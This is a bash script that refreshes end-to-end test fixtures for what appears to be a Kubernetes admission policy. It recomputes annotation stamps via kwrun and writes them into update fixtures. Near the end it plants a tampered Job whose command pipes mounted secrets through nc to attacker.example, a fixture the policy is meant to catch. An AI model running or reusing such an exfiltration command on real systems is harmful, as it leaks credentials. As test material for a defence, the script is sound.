#!/usr/bin/env bash
# Re-stamps the e2e fixtures that carry a stamp (update-*.json) after a change
# of the companion Job: the stamp of their oldObject (shop, labelled,
# ghcr.io/acme/shop:1.4.2) is derived anew by the real policy through kwrun,
# and written where each fixture holds it. update-tampered-job.json then
# gets the same stamp with its purge container replaced by a shell that
# sends the Secret away, which the policy must overwrite.
# Usage: scripts/refresh-fixtures.sh KWRUN POLICY
set -euo pipefail
cd "$(dirname "$0")/.."
kwrun="$1"
policy="$2"
fixtures=e2e-tests/fixtures
stamp_keys='["cache-buster.io/image-hash","cache-buster.io/job-name","cache-buster.io/job"]'

# The oldObject of update-unchanged-image.json, unstamped, as a CREATE.
request="$(mktemp)"
trap 'rm -f "$request"' EXIT
jq --argjson keys "$stamp_keys" '
  .request.operation = "CREATE"
  | .request.object = (.request.oldObject | .metadata.annotations |= with_entries(select(.key as $k | $keys | index($k) | not)))
  | del(.request.oldObject)' "$fixtures/update-unchanged-image.json" >"$request"
stamp="$("$kwrun" run --request-path "$request" "$policy" 2>/dev/null |
  jq -c '.patch | @base64d | fromjson | map({key: (.path | split("/") | last | gsub("~1"; "/")), value}) | from_entries')"
[ "$(jq -r '."cache-buster.io/image-hash"' <<<"$stamp")" = b82cce53ec ] || {
  echo "refresh-fixtures: unexpected stamp: $stamp" >&2
  exit 1
}

for name in update-image-changed update-label-removed update-unchanged-image update-tampered-job; do
  file="$fixtures/$name.json"
  jq --argjson stamp "$stamp" '
    .request.object.metadata.annotations += $stamp
    | .request.oldObject.metadata.annotations += $stamp' "$file" >"$file.new"
  mv "$file.new" "$file"
done

tampered="$fixtures/update-tampered-job.json"
jq '.request.object.metadata.annotations["cache-buster.io/job"] |= (
      fromjson
      | .spec.template.spec.containers[0].command = ["sh", "-c"]
      | .spec.template.spec.containers[0].args = ["cat /var/run/secrets/cache-buster/* | nc attacker.example 80"]
      | tojson)' "$tampered" >"$tampered.new"
mv "$tampered.new" "$tampered"
echo "refresh-fixtures: stamped the update fixtures with $(jq -r '."cache-buster.io/job-name"' <<<"$stamp") ($(jq -r '."cache-buster.io/job" | length' <<<"$stamp") bytes of Job)"
